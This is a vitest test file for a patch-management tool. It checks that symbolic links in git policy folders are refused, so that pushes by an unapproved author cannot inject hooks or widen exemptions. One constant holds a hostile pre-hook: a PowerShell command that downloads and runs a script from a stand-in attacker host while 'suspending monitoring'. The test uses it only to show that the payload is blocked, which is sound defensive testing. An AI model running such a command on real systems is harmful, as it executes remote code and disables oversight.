// C1 (second review): a symbolic link in the policy folders read from git is refused, never followed to its target.
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { FakeGithub } from "../helpers/github-server.js";
import { cli } from "../helpers/repo.js";
import {
  approvals,
  base,
  change,
  git,
  installed,
  makeTemplate,
  ok,
  plan,
  pr,
  type Template,
  withFakeGithub,
} from "./trust-fixture.js";

let gh: FakeGithub;
let template: Template;
withFakeGithub("ghs_linktoken", (started) => (gh = started));
beforeAll(async () => {
  template = await makeTemplate();
});
beforeEach(() => {
  gh.pulls.length = 0;
});

const HOOK = `  hooks:\n    pre: [{ name: suspend-monitoring, run: "powershell -c iex (iwr http://attacker.invalid/p.ps1)" }]\n`;

describe("symbolic links read from git (C1)", () => {
  it("policy.yaml -> policy.txt, then a direct push to policy.txt: no hook, the last regular policy.yaml plans", async () => {
    const { repo } = await base(gh, template);
    const policy = await readFile(join(repo, "policies/policy.yaml"), "utf8");
    // PR #21, approved by alice and bob, "moves the policy" into a .txt file behind a link.
    const moved = await change(repo, { "policies/policy.txt": policy, "policies/policy.yaml": { link: "policy.txt" } });
    gh.pulls.push(pr(21, [moved], [ok("alice"), ok("bob")]));
    expect(git(repo, "ls-tree", "HEAD", "policies/policy.yaml")).toMatch(/^120000 /);
    await change(repo, { "policies/policy.txt": policy + HOOK }, "Mallory <mallory@example.com>");

    const r = await plan(repo);
    expect(JSON.stringify(r.jobs)).not.toContain("attacker.invalid");
    expect(installed(r.jobs)).toEqual(["KB100"]);
    expect(r.plan.approvalVerification).toBe("verified");
    const refused = r.plan.findings.filter((f) => f.code === "symlink-refused");
    expect(refused).toEqual([
      expect.objectContaining({
        file: "policies/policy.yaml",
        severity: "error",
        message: expect.stringMatching(
          /symbolic link in git \(mode 120000\).*last version as a regular file \(commit [0-9a-f]{12}\)/,
        ),
      }),
    ]);
    expect(r.code).toBe(1);

    // The ledger says the same: the link is refused (its last regular version is what is judged).
    const a = await approvals(repo);
    expect(a.stdout + a.stderr).toContain("symlink-refused");
    expect(a.code).not.toBe(0);

    // validate (the working tree) refuses the link too, and no longer says that a file read through it is ignored:
    // policy.txt really is ignored now.
    const v = await cli("validate", "--repo", repo, "--format", "json");
    const d = JSON.parse(v.stdout) as { diagnostics: { code: string; file: string; message: string }[] };
    expect(d.diagnostics).toContainEqual(
      expect.objectContaining({ code: "symlink-refused", file: "policies/policy.yaml" }),
    );
    expect(v.code).toBe(1);
  });

  it("a direct push that turns policy.yaml into a link: the last verified regular policy.yaml plans", async () => {
    const { repo, root } = await base(gh, template);
    const policy = await readFile(join(repo, "policies/policy.yaml"), "utf8");
    await change(
      repo,
      { "policies/policy.txt": policy + HOOK, "policies/policy.yaml": { link: "policy.txt" } },
      "Mallory <mallory@example.com>",
    );
    const r = await plan(repo);
    expect(JSON.stringify(r.jobs)).not.toContain("attacker.invalid");
    expect(installed(r.jobs)).toEqual(["KB100"]);
    expect(r.plan.findings.map((f) => [f.code, f.file])).toEqual(
      expect.arrayContaining([
        ["symlink-refused", "policies/policy.yaml"],
        ["policy-file-unverified", "policies/policy.yaml"],
      ]),
    );
    expect(r.plan.findings.find((f) => f.code === "policy-file-unverified")!.message).toContain(
      `last verified version (commit ${root.slice(0, 12)}) is planned instead`,
    );
    expect(r.code).toBe(1);
  });

  it("exemption -> notes.txt, then a direct push to notes.txt: no defer, KB100 planned, one finding", async () => {
    const { repo } = await base(gh, template);
    const lab = `apiVersion: patchops/v1
kind: Exemption
metadata:
  name: freeze
spec:
  selector: { name: lab-01 }
  updates: ["*"]
  type: defer
  reason: lab
  ticket: CHG-1
  expires: 2026-12-30
`;
    const added = await change(repo, {
      "policies/exemptions/notes.txt": lab,
      "policies/exemptions/freeze.yaml": { link: "notes.txt" },
    });
    gh.pulls.push(pr(20, [added], [ok("alice"), ok("bob")]));
    await change(
      repo,
      { "policies/exemptions/notes.txt": lab.replace("{ name: lab-01 }", "{ os: windows }") },
      "Mallory <mallory@example.com>",
    );

    const r = await plan(repo);
    expect(installed(r.jobs)).toEqual(["KB100"]);
    expect(
      r.jobs
        .filter((j) => j.type === "install")
        .map((j) => j.host)
        .sort(),
    ).toEqual(["host-01", "host-02"]);
    expect(r.hosts.map((h) => h.updates.KB100)).toEqual(["missing", "missing"]);
    expect(r.plan.findings.filter((f) => f.code === "symlink-refused")).toEqual([
      expect.objectContaining({ file: "policies/exemptions/freeze.yaml", severity: "error" }),
    ]);
    expect(r.code).toBe(1);
  });
});
